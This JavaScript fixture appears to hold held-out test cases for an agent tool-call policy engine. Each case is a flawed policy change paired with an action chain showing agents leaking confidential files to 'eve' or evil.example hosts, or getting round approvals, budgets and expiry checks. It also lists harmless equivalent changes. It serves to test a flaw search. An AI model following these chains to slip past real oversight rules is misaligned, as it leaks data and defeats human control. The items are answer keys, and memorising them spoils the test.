// @ts-check
// Flaws of the desk that no search was made with, and changes of its policy that are none. They are by another hand than
// `planted.mjs`: a search is measured on them and never fitted to them.

/** @typedef {import("./planted.mjs").Flaw & { readonly chain: readonly string[] }} HeldOut with a short sequence that reaches a goal */

/** @typedef {object} Harmless
 * @property {string} name
 * @property {readonly (readonly [from: string, to: string])[]} changes texts of `desk.policy.ts`, each of which stands there once
 * @property {string} why no goal can be reached
 */

const IMPORTS = "import { anyTool, count, deny, label, permit, policy, type Subject, sum, union }";
const TO_STRANGERS = 'r.args.to.domain !== "acme.example"';
const TO_OTHER_HOSTS = 'r.args.url.host !== "acme.example"';
const MAIL_CARRIED = '  sendMail,\n  (r) =>\n    (carried.of(r).has("confidential") ||';
const PAID = 'sum("task", [pay, refund], (e) => e.args.amount)';
const OVER_BUDGET = "paid.of(r) + r.args.amount > 1000";
const APPROVALS = 'count("task", approve, undefined, { key: (e) => e.args.payee })';
const PAYMENTS = 'count("task", [pay, refund], undefined, { key: (e) => e.args.payee })';
const UNAPPROVED = "payments.of(r, r.args.payee) >= approvals.of(r, r.args.payee)";
const OWN_APPROVAL = "approvers.of(r, r.args.payee).has(humanOf(r.subject))";
const OWN_PAYMENT = "payers.of(r, r.args.payee).has(humanOf(r.subject))";
const EXPIRED = "r.credential === undefined || r.time >= r.credential.expires";
const SENT = 'count("task", [sendMail, post])';
const FLOOD = "sent.of(r) >= 3";
const HANDED_ON = "handed.of(r, r.subject.id).size > 0";

/** @type {readonly HeldOut[]} */
export const HELD_OUT = [
  {
    name: "plain mail goes unseen",
    kind: "optional argument",
    domains: ["m", "l"],
    changes: [[TO_STRANGERS, `${TO_STRANGERS} &&\n    r.args.format !== "plain"`]],
    chain: ["clerk-1: files.read(plan)", "clerk-1: mail.send(eve, plain)"],
  },
  {
    name: "two labels hide each other",
    kind: "comparison",
    domains: ["m", "l"],
    changes: [
      [
        MAIL_CARRIED,
        '  sendMail,\n  (r) =>\n    ((carried.of(r).has("confidential") && carried.of(r).size === 1) ||',
      ],
    ],
    chain: ["clerk-1: files.read(plan)", "clerk-1: memory.get(letter)", "clerk-1: mail.send(eve)"],
  },
  {
    name: "the worse label wins",
    kind: "labels overwrite each other",
    domains: ["m", "l"],
    changes: [
      [
        'carried = union("session", (e) => e.result?.labels)',
        'carried = union("session", (e) =>\n  (e.result?.labels.includes("untrusted") ?? false) ? ["untrusted"] : e.result?.labels,\n)',
      ],
    ],
    chain: [
      "clerk-1: files.read(plan)",
      "clerk-1: memory.put(letter)",
      "clerk-2: memory.get(letter)",
      "clerk-2: mail.send(eve)",
    ],
  },
  {
    name: "the giver is remembered and not who is given to",
    kind: "delegation",
    domains: ["m", "l"],
    changes: [["{ key: (e) => e.args.agent }", "{ key: (e) => e.subject.id }"]],
    chain: ["clerk-1: files.read(plan)", "clerk-1: agents.delegate(auditor)", "auditor-1: mail.send(eve)"],
  },
  {
    name: "who hands to herself hands nothing",
    kind: "delegation",
    domains: ["m", "l"],
    changes: [
      [
        'union("task", hand, (e) => carried.of(e), {',
        'union("task", hand, (e) => (e.args.agent === e.subject.id ? undefined : carried.of(e)), {',
      ],
    ],
    chain: ["clerk-1: files.read(plan)", "clerk-1: agents.delegate(clerk)", "clerk-2: mail.send(eve)"],
  },
  {
    name: "two labels are handed on",
    kind: "delegation",
    domains: ["m", "l"],
    changes: [[HANDED_ON, "handed.of(r, r.subject.id).size === 1"]],
    chain: [
      "clerk-1: files.read(plan)",
      "clerk-1: memory.get(letter)",
      "clerk-1: agents.delegate(auditor)",
      "auditor-1: agents.delegate(clerk)",
      "clerk-2: mail.send(eve)",
    ],
  },
  {
    name: "who renames has not read what was written",
    kind: "label lost",
    domains: ["m", "l"],
    changes: [["ofWritten = label(reading", "ofWritten = label([readFile, copyFile, summarise]"]],
    chain: [
      "clerk-1: files.read(plan)",
      "clerk-1: files.write(copy)",
      "clerk-2: files.rename(copy, page)",
      "clerk-2: mail.send(eve)",
    ],
  },
  {
    name: "who copies has not read what was handed and written",
    kind: "label lost",
    domains: ["m", "l"],
    changes: [["ofWrittenOn = label(reading", "ofWrittenOn = label(readFile"]],
    chain: [
      "clerk-1: files.read(plan)",
      "clerk-1: agents.delegate(auditor)",
      "auditor-1: files.write(copy)",
      "clerk-2: files.copy(copy, page)",
      "clerk-2: mail.send(eve)",
    ],
  },
  {
    name: "a note of what was handed is clean",
    kind: "label lost",
    domains: ["m", "l"],
    changes: [["ofNotedOn = label([getNote, copyNote]", "ofNotedOn = label(copyNote"]],
    chain: [
      "clerk-1: memory.get(letter)",
      "clerk-1: agents.delegate(auditor)",
      "auditor-1: memory.put(memo)",
      "clerk-2: memory.get(memo)",
      "clerk-2: shell.run(uptime)",
    ],
  },
  {
    name: "notes go by their text",
    kind: "wrong key",
    domains: ["m", "l"],
    changes: [
      [
        'noted = union("task", putNote, (e) => carried.of(e), { key: (e) => e.args.note })',
        'noted = union("task", putNote, (e) => carried.of(e), { key: (e) => e.args.text })',
      ],
    ],
    chain: [
      "clerk-1: memory.get(letter)",
      "clerk-1: memory.put(memo)",
      "clerk-2: memory.get(memo)",
      "clerk-2: shell.run(uptime)",
    ],
  },
  {
    name: "each agent knows its own copies only",
    kind: "scope",
    domains: ["m", "l"],
    changes: [['copied = union("task"', 'copied = union("subject"']],
    chain: ["clerk-1: files.copy(plan, copy)", "auditor-1: files.read(copy)", "auditor-1: mail.send(eve)"],
  },
  {
    name: "a summary is clean",
    kind: "label lost",
    domains: ["l"],
    changes: [["[copyFile, renameFile, summarise], (e)", "[copyFile, renameFile], (e)"]],
    chain: ["clerk-1: files.summarise(plan, page)", "clerk-2: files.read(page)", "clerk-2: mail.send(eve)"],
  },
  {
    name: "a copied note is marked at its source",
    kind: "wrong key",
    domains: ["l"],
    changes: [["{ key: (e) => e.args.as }", "{ key: (e) => e.args.note }"]],
    chain: ["clerk-1: memory.copy(letter, memo)", "clerk-2: memory.get(memo)", "clerk-2: shell.run(uptime)"],
  },
  {
    name: "only notes are by strangers",
    kind: "label lost",
    domains: ["m", "l"],
    changes: [
      [
        "export const untrustedRuns",
        'export const heard = union("session", getNote, (e) => e.result?.labels);\nexport const untrustedRuns',
      ],
      ['(r) => carried.of(r).has("untrusted") ||', '(r) => heard.of(r).has("untrusted") ||'],
    ],
    chain: [
      "clerk-1: memory.get(letter)",
      "clerk-1: files.write(copy)",
      "clerk-2: files.read(copy)",
      "clerk-2: shell.run(uptime)",
    ],
  },
  {
    name: "strangers are heard twice before they count",
    kind: "condition",
    domains: ["m", "l"],
    changes: [['(r) => carried.of(r).has("untrusted") ||', '(r) => carried.of(r).has("untrusted") &&']],
    chain: ["clerk-1: memory.get(letter)", "clerk-1: shell.run(uptime)"],
  },
  {
    name: "who has run the check is released",
    kind: "exception",
    domains: ["m", "l"],
    changes: [
      [IMPORTS, IMPORTS.replace("label,", "label, once,")],
      ["export const mailLeaves", 'export const checked = once("session", run);\nexport const mailLeaves'],
      [TO_STRANGERS, `${TO_STRANGERS} &&\n    !checked.of(r)`],
    ],
    chain: ["clerk-1: shell.run(uptime)", "clerk-1: files.read(plan)", "clerk-1: mail.send(eve)"],
  },
  {
    name: "the press may know when it was paid twice",
    kind: "exception",
    domains: ["m", "l"],
    changes: [[TO_STRANGERS, `${TO_STRANGERS} &&\n    payments.of(r, "press") < 2`]],
    chain: [
      "auditor-1: bank.approve(press)",
      "auditor-1: bank.approve(press)",
      "clerk-1: bank.pay(press, 500)",
      "clerk-1: bank.pay(press, 500)",
      "clerk-1: files.read(plan)",
      "clerk-1: mail.send(eve)",
    ],
  },
  {
    name: "the hotel may know when it was paid three times",
    kind: "exception",
    domains: ["l"],
    changes: [[TO_OTHER_HOSTS, `${TO_OTHER_HOSTS} &&\n    payments.of(r, "hotel") < 3`]],
    chain: [
      "auditor-1: bank.approve(hotel)",
      "auditor-1: bank.approve(hotel)",
      "auditor-1: bank.approve(hotel)",
      "clerk-1: bank.pay(hotel, 1)",
      "clerk-1: bank.pay(hotel, 1)",
      "clerk-1: bank.pay(hotel, 1)",
      "clerk-1: files.read(plan)",
      "clerk-1: web.post(https://evil.example/)",
    ],
  },
  {
    name: "what is old may be mailed",
    kind: "expiry",
    domains: ["m", "l"],
    changes: [[TO_STRANGERS, `${TO_STRANGERS} &&\n    r.time < (r.credential?.expires ?? r.time + 1)`]],
    chain: ["clerk-1: files.read(plan)", "10 minutes later", "clerk-1: mail.send(eve)"],
  },
  {
    name: "the latest payment stands for all",
    kind: "sum replaced by last",
    domains: ["m", "l"],
    changes: [
      [IMPORTS, IMPORTS.replace("label,", "label, last,")],
      [PAID, PAID.replace("sum", "last")],
      [OVER_BUDGET, "(paid.of(r) ?? 0) + r.args.amount > 1000"],
    ],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 500)",
      "clerk-1: bank.pay(shop, 500)",
      "clerk-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "small change is not summed",
    kind: "budget",
    domains: ["l"],
    changes: [[PAID, 'sum("task", [pay, refund], (e) => (e.args.amount < 500 ? 0 : e.args.amount))']],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 1)",
      "clerk-1: bank.pay(shop, 1000)",
    ],
  },
  {
    name: "a cent more than the budget",
    kind: "limit off by one",
    domains: ["l"],
    changes: [[OVER_BUDGET, "paid.of(r) + r.args.amount > 1001"]],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 1000)",
      "clerk-1: bank.pay(shop, 1)",
    ],
  },
  {
    name: "the budget is new every five minutes",
    kind: "window",
    domains: ["m", "l"],
    changes: [[PAID, 'sum("task", [pay, refund], (e) => e.args.amount, { window: "5m" })']],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 1000)",
      "6 minutes later",
      "clerk-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "an approval is good again every two minutes",
    kind: "window",
    domains: ["m", "l"],
    changes: [
      [PAYMENTS, 'count("task", [pay, refund], undefined, { key: (e) => e.args.payee, window: "2m" })'],
    ],
    chain: [
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 500)",
      "3 minutes later",
      "clerk-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "each agent uses an approval once",
    kind: "approval scope",
    domains: ["l"],
    changes: [[PAYMENTS, PAYMENTS.replace('"task"', '"subject"')]],
    chain: ["auditor-1: bank.approve(shop)", "clerk-1: bank.pay(shop, 1)", "helper-1: bank.pay(shop, 1)"],
  },
  {
    name: "an approval is for any payee",
    kind: "approval not bound",
    domains: ["m", "l"],
    changes: [
      [APPROVALS, 'count("task", approve)'],
      [PAYMENTS, 'count("task", [pay, refund])'],
      [UNAPPROVED, "payments.of(r) >= approvals.of(r)"],
    ],
    chain: ["auditor-1: bank.approve(shop)", "clerk-1: bank.pay(press, 500)"],
  },
  {
    name: "an approval that was refused counts",
    kind: "attempt",
    domains: ["m", "l"],
    changes: [[APPROVALS, 'count("task", approve, undefined, { key: (e) => e.args.payee, on: "attempt" })']],
    chain: [
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 500)",
      "clerk-1: bank.approve(shop), which is stopped",
      "clerk-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "who approves is asked at the first payment only",
    kind: "duty",
    domains: ["m", "l"],
    changes: [[OWN_APPROVAL, `payments.of(r, r.args.payee) === 0 && ${OWN_APPROVAL}`]],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 500)",
      "auditor-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "who paid in another session may approve",
    kind: "duty",
    domains: ["m", "l"],
    changes: [['payers = union("task"', 'payers = union("session"']],
    chain: ["auditor-1: bank.approve(shop)", "clerk-1: bank.pay(shop, 500)", "clerk-2: bank.approve(shop)"],
  },
  {
    name: "over at that moment only",
    kind: "expiry",
    domains: ["m", "l"],
    changes: [[EXPIRED, EXPIRED.replace(">=", "===")]],
    chain: ["auditor-1: bank.approve(shop)", "11 minutes later", "clerk-1: bank.pay(shop, 500)"],
  },
  {
    name: "the task is asked and not the credential",
    kind: "expiry",
    domains: ["m", "l"],
    changes: [[EXPIRED, "r.task === undefined || r.time >= r.task.expires"]],
    chain: ["auditor-1: bank.approve(shop)", "10 minutes later", "clerk-1: bank.pay(shop, 500)"],
  },
  {
    name: "the credential is asked when it is approved",
    kind: "expiry",
    domains: ["m", "l"],
    changes: [["expired = deny(\n  [pay, refund],", "expired = deny(\n  approve,"]],
    chain: ["auditor-1: bank.approve(shop)", "10 minutes later", "clerk-1: bank.pay(shop, 500)"],
  },
  {
    name: "three an hour",
    kind: "window",
    domains: ["m", "l"],
    changes: [[SENT, 'count("task", [sendMail, post], undefined, { window: "1h" })']],
    chain: [
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob)",
      "2 hours later",
      "clerk-1: mail.send(bob)",
    ],
  },
  {
    name: "answers to strangers do not count",
    kind: "rate",
    domains: ["m", "l"],
    changes: [[SENT, 'count("task", [sendMail, post], (e) => !carried.of(e).has("untrusted"))']],
    chain: [
      "clerk-1: memory.get(letter)",
      "clerk-1: mail.send(eve)",
      "clerk-1: mail.send(eve)",
      "clerk-1: mail.send(eve)",
      "clerk-1: mail.send(eve)",
    ],
  },
  {
    name: "a post counts twice, and three is the limit",
    kind: "second order",
    domains: ["m", "l"],
    changes: [
      [SENT, 'sum("task", [sendMail, post], (e) => (e.tool === "web.post" ? 2 : 1))'],
      [FLOOD, "sent.of(r) === 3"],
    ],
    chain: [
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob)",
      "clerk-1: web.post(https://acme.example/)",
      "clerk-1: mail.send(bob)",
    ],
  },
  {
    name: "a large payment uses two approvals, and as many is too many",
    kind: "second order",
    domains: ["m", "l"],
    changes: [
      [
        PAYMENTS,
        'sum("task", [pay, refund], (e) => (e.args.amount >= 500 ? 2 : 1), { key: (e) => e.args.payee })',
      ],
      [UNAPPROVED, UNAPPROVED.replace(">=", "===")],
    ],
    chain: ["auditor-1: bank.approve(shop)", "clerk-1: bank.pay(shop, 500)", "clerk-1: bank.pay(shop, 500)"],
  },
  {
    name: "a fee is taken off, and the limit is near the next note",
    kind: "second order",
    domains: ["m"],
    changes: [
      [PAID, 'sum("task", [pay, refund], (e) => e.args.amount - 1)'],
      [OVER_BUDGET, "paid.of(r) + r.args.amount > 1498"],
    ],
    chain: [
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "auditor-1: bank.approve(shop)",
      "clerk-1: bank.pay(shop, 500)",
      "clerk-1: bank.pay(shop, 500)",
      "clerk-1: bank.pay(shop, 500)",
    ],
  },
  {
    name: "attempts count, and three is the limit",
    kind: "second order",
    domains: ["m", "l"],
    changes: [
      [SENT, 'count("task", [sendMail, post], undefined, { on: "attempt" })'],
      [FLOOD, "sent.of(r) === 3"],
    ],
    chain: [
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob)",
      "clerk-1: mail.send(bob), which is stopped",
      "clerk-1: mail.send(bob)",
    ],
  },
  {
    name: "the last letters of a host",
    kind: "careless comparison",
    domains: ["m", "l"],
    changes: [[TO_OTHER_HOSTS, 'r.args.url.host.slice(-12) !== "acme.example"']],
    chain: ["clerk-1: files.read(plan)", "clerk-1: web.post(https://evilacme.example/)"],
  },
  {
    name: "acme somewhere in a host",
    kind: "careless comparison",
    domains: ["m", "l"],
    changes: [[TO_OTHER_HOSTS, '!r.args.url.host.split(".").includes("acme")']],
    chain: ["clerk-1: files.read(plan)", "clerk-1: web.post(https://acme.evil.example/)"],
  },
  {
    name: "a host of acme without its end",
    kind: "careless comparison",
    domains: ["m", "l"],
    changes: [[TO_OTHER_HOSTS, "!/^([a-z]+[.])?acme[.]example/u.test(r.args.url.host)"]],
    chain: ["clerk-1: files.read(plan)", "clerk-1: web.post(https://acme.example.evil.example/)"],
  },
  {
    name: "an address that begins like ours",
    kind: "careless comparison",
    domains: ["m", "l"],
    changes: [[TO_OTHER_HOSTS, '!r.args.url.startsWith("https://acme.example")']],
    chain: ["clerk-1: files.read(plan)", "clerk-1: web.post(https://acme.example.evil.example/)"],
  },
];

/** @type {readonly Harmless[]} */
export const EQUIVALENT = [
  {
    name: "as many payments as approvals, and no other number",
    changes: [[UNAPPROVED, UNAPPROVED.replace(">=", "===")]],
    why: "payments come one by one, so they never pass the approvals",
  },
  {
    name: "the fourth only",
    changes: [[FLOOD, "sent.of(r) === 3"]],
    why: "the fourth is stopped and not counted, so there is no fifth",
  },
  {
    name: "a post counts twice",
    changes: [[SENT, 'sum("task", [sendMail, post], (e) => (e.tool === "web.post" ? 2 : 1))']],
    why: "less is sent, never more",
  },
  {
    name: "sending that was stopped counts",
    changes: [[SENT, 'count("task", [sendMail, post], undefined, { on: "attempt" })']],
    why: "less is sent, never more",
  },
  {
    name: "a large payment uses two approvals",
    changes: [
      [
        PAYMENTS,
        'sum("task", [pay, refund], (e) => (e.args.amount >= 500 ? 2 : 1), { key: (e) => e.args.payee })',
      ],
    ],
    why: "less is paid, never more",
  },
  {
    name: "the budget is new every hour",
    changes: [[PAID, 'sum("task", [pay, refund], (e) => e.args.amount, { window: "1h" })']],
    why: "nobody pays when the credential is over, which is after ten minutes",
  },
  {
    name: "payments are forgotten after half an hour",
    changes: [
      [PAYMENTS, 'count("task", [pay, refund], undefined, { key: (e) => e.args.payee, window: "30m" })'],
    ],
    why: "nobody pays when the credential is over, which is after ten minutes",
  },
  {
    name: "what was handed may be handed to oneself",
    changes: [[HANDED_ON, `${HANDED_ON} && r.args.agent !== r.subject.id`]],
    why: "an agent has in all of its sessions what was handed to it",
  },
  {
    name: "who has no credential may pay",
    changes: [[EXPIRED, "r.credential !== undefined && r.time >= r.credential.expires"]],
    why: "every call has a credential",
  },
  {
    name: "agents of nobody are one person",
    changes: [["?? subject.id;", '?? "nobody";']],
    why: "every agent acts for somebody",
  },
  {
    name: "labels of what reads",
    changes: [
      [
        'carried = union("session", (e)',
        'carried = union("session", [readFile, copyFile, renameFile, summarise, getNote, copyNote], (e)',
      ],
    ],
    why: "no other tool gives back what has labels",
  },
  {
    name: "who pays nothing has a budget without end",
    changes: [[OVER_BUDGET, `${OVER_BUDGET} && r.args.amount !== 0`]],
    why: "nothing is added to the sum",
  },
  {
    name: "nobody is asked before somebody approves",
    changes: [[OWN_APPROVAL, `approvals.of(r, r.args.payee) > 0 && ${OWN_APPROVAL}`]],
    why: "without an approval there is nobody who approved",
  },
  {
    name: "who approves is not asked before somebody pays",
    changes: [[OWN_PAYMENT, `payments.of(r, r.args.payee) > 0 && ${OWN_PAYMENT}`]],
    why: "without a payment there is nobody who paid",
  },
  {
    name: "over the budget the budget is off",
    changes: [[OVER_BUDGET, `${OVER_BUDGET} && paid.of(r) <= 1000`]],
    why: "the sum never passes the budget",
  },
  {
    name: "labels do not matter when all was sent",
    changes: [[TO_STRANGERS, `${TO_STRANGERS} &&\n    sent.of(r) < 3`]],
    why: "then nothing is sent at all",
  },
  {
    name: "the budget does not matter for what nobody approved",
    changes: [
      [OVER_BUDGET, `${OVER_BUDGET} && payments.of(r, r.args.payee) < approvals.of(r, r.args.payee)`],
    ],
    why: "then nothing is paid at all",
  },
  {
    name: "the credential is asked for what was approved",
    changes: [[EXPIRED, `approvals.of(r, r.args.payee) > 0 && (${EXPIRED})`]],
    why: "without an approval nothing is paid at all",
  },
];

/** @type {readonly Harmless[]} */
export const CORRECT = [
  {
    name: "mail to strangers waits for an approval",
    changes: [
      [IMPORTS, IMPORTS.replace("policy,", "policy, stepUp,")],
      ["mailLeaves = deny(", "mailLeaves = stepUp("],
    ],
    why: "nobody gives it, and what waits is not sent",
  },
  {
    name: "who runs what a stranger wrote is done",
    changes: [
      [IMPORTS, IMPORTS.replace("label,", "halt, label,")],
      ["untrustedRuns = deny(", "untrustedRuns = halt("],
    ],
    why: "it is stopped, and the session with it",
  },
  {
    name: "what is sent is asked by its verb",
    changes: [
      [IMPORTS, IMPORTS.replace("policy,", "policy, sending,")],
      ["mailLeaves = deny(\n  sendMail,", "mailLeaves = deny(\n  sending,"],
      [TO_STRANGERS, 'r.effect.to.some((d) => !d.isInside(["acme.example"]))'],
      [
        `export const postLeaves = deny(\n  post,\n  (r) =>\n    (carried.of(r).has("confidential") || handed.of(r, r.subject.id).has("confidential")) &&\n    ${TO_OTHER_HOSTS},\n);\n`,
        "",
      ],
    ],
    why: "mail and posts are all that is sent",
  },
  {
    name: "the limit from behind",
    changes: [[FLOOD, "3 - sent.of(r) < 1"]],
    why: "the same comparison",
  },
  {
    name: "an agent carries over all of its sessions",
    changes: [['carried = union("session"', 'carried = union("subject"']],
    why: "each session carries more than before",
  },
  {
    name: "what is left of the budget",
    changes: [[OVER_BUDGET, "!(r.args.amount <= 1000 - paid.of(r))"]],
    why: "the same comparison",
  },
  {
    name: "two approvals for each payment",
    changes: [[UNAPPROVED, "2 * payments.of(r, r.args.payee) + 1 >= approvals.of(r, r.args.payee)"]],
    why: "more is asked than one for each",
  },
  {
    name: "who has read hands nothing",
    changes: [[HANDED_ON, "handed.of(r, r.subject.id).size > 0 || carried.of(r).size > 0"]],
    why: "no data is handed at all",
  },
  {
    name: "rich mail stays inside",
    changes: [
      [
        "export const postLeaves",
        'export const richLeaves = deny(sendMail, (r) => r.args.format === "rich" && r.args.to.domain.length !== 12);\nexport const postLeaves',
      ],
    ],
    why: "one more rule stops more, however odd it is",
  },
  {
    name: "whoever has read anything runs nothing",
    changes: [['(r) => carried.of(r).has("untrusted") ||', "(r) => carried.of(r).size > 0 ||"]],
    why: "strangers are among what was read",
  },
  {
    name: "what was tried is summed",
    changes: [[PAID, 'sum("task", [pay, refund], (e) => e.args.amount, { on: "attempt" })']],
    why: "the sum is never below what was paid",
  },
  {
    name: "agents of Alice approve nothing",
    changes: [
      [
        "export const payers",
        'export const notAlice = deny(approve, (r) => humanOf(r.subject) === "alice@acme.example");\nexport const payers',
      ],
    ],
    why: "one more rule stops more",
  },
  {
    name: "over a minute early",
    changes: [[EXPIRED, "r.credential === undefined || r.time + 60_000 >= r.credential.expires"]],
    why: "it is over before it is over",
  },
  {
    name: "two budgets that are one",
    changes: [
      [
        PAID,
        `${PAID.replace("[pay, refund]", "pay")};\nexport const refunded = ${PAID.replace("[pay, refund]", "refund")}`,
      ],
      [
        `budget = deny([pay, refund], (r) => ${OVER_BUDGET})`,
        "budget = deny(pay, (r) => paid.of(r) + r.args.amount > 500);\nexport const back = deny(refund, (r) => refunded.of(r) + r.args.amount > 500)",
      ],
    ],
    why: "500 and 500 are no more than 1000",
  },
  {
    name: "three an hour, as long as the credential is good",
    changes: [
      [SENT, 'count("task", [sendMail, post], undefined, { window: "1h" })'],
      [FLOOD, "sent.of(r) >= 3 || r.credential === undefined || r.time >= r.credential.expires"],
    ],
    why: "nothing is forgotten within the ten minutes in which something is sent",
  },
  {
    name: "empty mail may go to anybody",
    changes: [[TO_STRANGERS, `${TO_STRANGERS} &&\n    r.args.body !== ""`]],
    why: "there is nothing in it",
  },
];
